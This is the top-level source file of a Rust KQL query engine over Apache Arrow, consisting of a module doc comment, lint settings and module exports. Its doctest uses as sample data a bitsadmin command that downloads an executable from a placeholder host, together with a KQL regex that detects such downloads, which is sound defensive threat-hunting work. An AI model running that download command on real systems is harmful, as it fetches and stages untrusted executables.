//! A KQL (Kusto Query Language) engine over Apache Arrow.
//!
//! ```text
//! query text ──parse──▶ AST ──bind──▶ plan ──execute──▶ RecordBatches
//!            (kql-parser)   (bind)          (exec, eval)
//!                              ▲                ▲
//!                   Catalog: table schemas   tables: batches from files or embedders
//! ```
//!
//! Binding resolves every name and type against table schemas before any data is read, so
//! an unknown column fails the query the way Kusto does, pointing at the query text.
//! Execution evaluates each expression over whole Arrow arrays.
//!
//! ```
//! use std::sync::Arc;
//! use arrow::array::{RecordBatch, StringArray};
//! use arrow::datatypes::Schema;
//! use kql_engine::{Engine, types::KustoType};
//!
//! let schema = Arc::new(Schema::new(vec![KustoType::String.field("CommandLine")]));
//! let batch = RecordBatch::try_new(schema, vec![Arc::new(StringArray::from(vec![
//!     "bitsadmin /transfer job /download http://x/a.exe c:\\a.exe",
//!     "notepad.exe",
//! ]))]).unwrap();
//!
//! let mut engine = Engine::new();
//! engine.register_batches("Events", vec![batch]).unwrap();
//! let result = engine
//!     .run("Events\n| where CommandLine matches regex @'bitsadmin(.+)/download '")
//!     .unwrap();
//! assert_eq!(result.tables[0].num_rows(), 1);
//! ```

#![warn(missing_docs)]
// Query text and files from users reach this code: a malformed input must become an error,
// never a panic. Tests may still unwrap and index freely.
#![cfg_attr(
    not(test),
    deny(
        clippy::unwrap_used,
        clippy::expect_used,
        clippy::indexing_slicing,
        clippy::panic,
        clippy::todo,
        clippy::unimplemented,
        clippy::unreachable
    )
)]

pub mod bind;
pub mod catalog;
mod empty;
mod engine;
pub mod error;
pub mod eval;
pub mod exec;
pub mod external;
pub mod format;
pub mod functions;
pub mod limits;
pub mod plan;
pub mod source;
pub mod types;

pub use engine::{Engine, Options, QueryResult, ResultTable};
pub use error::Error;
pub use limits::Limits;
